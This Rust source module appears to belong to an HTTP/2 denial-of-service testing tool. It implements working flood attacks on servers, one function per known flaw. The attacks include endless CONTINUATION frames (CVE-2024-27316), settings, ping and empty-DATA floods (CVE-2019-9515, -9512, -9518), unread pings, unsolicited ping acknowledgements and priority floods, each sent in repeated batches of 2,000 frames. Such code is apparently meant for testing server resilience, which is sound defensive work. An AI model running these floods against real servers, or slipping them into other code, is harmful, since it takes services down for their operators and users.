//! HTTP/2 frames that cost their sender nothing.

use super::target::Target;
use crate::corpus::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, PING, SETTINGS, fields, frame, request,
};

const PRIORITY: u8 = 2;

/// A batch that fills some TLS records.
const BATCH: usize = 2_000;

/// A field block that never ends (CVE-2024-27316 and its like).
pub(super) async fn continuation(target: &Target) {
    let field = fields(&["x-more = again and again and again".to_owned()]);
    let more = frame(CONTINUATION, 0, 1, &field).repeat(100);
    while target.goes_on() {
        let Some(mut raw) = target.http2(&[]).await else {
            continue;
        };
        let start = frame(HEADERS, 0, 1, &fields(&["*GET /flood/0".to_owned()]));
        if target.send(&mut raw, &start).await {
            target.repeat(&mut raw, &more, 100).await;
        }
    }
}

/// Settings that change each time, and with them the windows of a hundred streams; each has to be
/// confirmed (CVE-2019-9515).
pub(super) async fn settings(target: &Target) {
    let [one, other] = [[0, 4, 0, 0, 255, 255], [0, 4, 0, 1, 0, 0]];
    let frames = [one, other].map(|payload| frame(SETTINGS, 0, 0, &payload));
    let streams = (1..201).step_by(2);
    let streams = streams.flat_map(|it| request(it, "GET", "/flood/never"));
    again(target, &streams.collect::<Vec<_>>(), &frames).await;
}

/// Each has to be answered (CVE-2019-9512).
pub(super) async fn pings(target: &Target) {
    again(target, &[], &[frame(PING, 0, 0, b"whocares")]).await;
}

/// The same from a client that never reads an answer.
pub(super) async fn unread_pings(target: &Target) {
    let batch = frame(PING, 0, 0, b"whocares").repeat(BATCH);
    while target.goes_on() {
        if let Some(mut raw) = target.http2(&[]).await {
            raw.stop_reading();
            target.repeat(&mut raw, &batch, BATCH as u64).await;
        }
    }
}

/// Answers to what nobody asked.
pub(super) async fn ping_answers(target: &Target) {
    again(target, &[], &[frame(PING, ACK, 0, b"whocares")]).await;
}

/// What means nothing to anybody.
pub(super) async fn priorities(target: &Target) {
    again(target, &[], &[frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 7])]).await;
}

/// The body of a request that never says anything (CVE-2019-9518).
pub(super) async fn empty_data(target: &Target) {
    let block = fields(&["*POST /flood/0".to_owned()]);
    let request = frame(HEADERS, END_HEADERS, 1, &block);
    again(target, &request, &[frame(DATA, 0, 1, b"")]).await;
}

/// Sends a start, and these frames for as long as the connection lasts.
async fn again(target: &Target, start: &[u8], frames: &[Vec<u8>]) {
    let batch = frames.concat().repeat(BATCH);
    let attempts = (frames.len() * BATCH) as u64;
    while target.goes_on() {
        let Some(mut raw) = target.http2(&[]).await else {
            continue;
        };
        if target.send(&mut raw, start).await {
            target.repeat(&mut raw, &batch, attempts).await;
        }
    }
}
